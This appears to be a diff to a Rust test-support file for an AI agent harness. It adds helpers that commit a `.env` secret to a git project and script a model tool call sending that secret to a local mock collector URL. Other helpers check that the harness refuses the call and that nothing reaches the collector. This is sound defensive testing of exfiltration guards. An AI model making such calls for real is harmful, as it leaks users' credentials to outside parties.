@@ -62,3 +62,55 @@ pub fn run_full_auto(cli: &Cli, sb: &Sandbox) -> Vec<Value> {
     assert_exit(&o, 0);
     events(&o)
 }
+
+/// [`project`] with the git plugin (`extra` after it), made a repository
+/// whose first commit holds `.env` and `notes.txt`.
+pub fn git_project(port: u16, extra: &str) -> Sandbox {
+    let sb = project(
+        port,
+        &format!(
+            "\n[plugins.git]\nsource = \"builtin:git\"\n\
+             grants.exec = [{{ program = \"git\", args = [\"**\"] }}]\n{extra}"
+        ),
+    );
+    crate::support::git::git(&sb.ws(), &["init", "-q"]);
+    crate::support::git::git(&sb.ws(), &["add", ".env", "notes.txt"]);
+    crate::support::git::git(&sb.ws(), &["commit", "-q", "-m", "init"]);
+    sb
+}
+
+/// The model's call `id` that sends the secret to the collector on `port`.
+pub fn send_turn(id: &str, port: u16) -> Value {
+    let url = format!("http://127.0.0.1:{port}/collect?k={SECRET}");
+    crate::support::cassette::call_turn(id, "http_get", serde_json::json!({ "url": url }))
+}
+
+/// The end of the call `id`, which must have succeeded and shown the secret.
+pub fn shown_secret<'a>(events: &'a [Value], id: &str) -> &'a Value {
+    let shown = crate::support::events::find(events, "tool_call_end", id);
+    assert_eq!(shown["outcome"]["is_error"], false, "{shown}");
+    assert!(
+        shown["outcome"]["content"]
+            .as_str()
+            .is_some_and(|c| c.contains(SECRET)),
+        "git did not show the secret: {shown}"
+    );
+    shown
+}
+
+/// Why the call `id` was held: its permission must be `refused`.
+pub fn refused_reason(events: &[Value], id: &str) -> String {
+    let permission = crate::support::events::find(events, "permission", id);
+    assert_eq!(permission["decision"], "refused", "{permission}");
+    permission["reason"].as_str().expect("reason").to_owned()
+}
+
+/// Fails the test if the collector received any request.
+#[track_caller]
+pub fn assert_nothing_sent(server: &MockServer) {
+    assert_eq!(
+        server.requests().len(),
+        0,
+        "the collector received a request"
+    );
+}
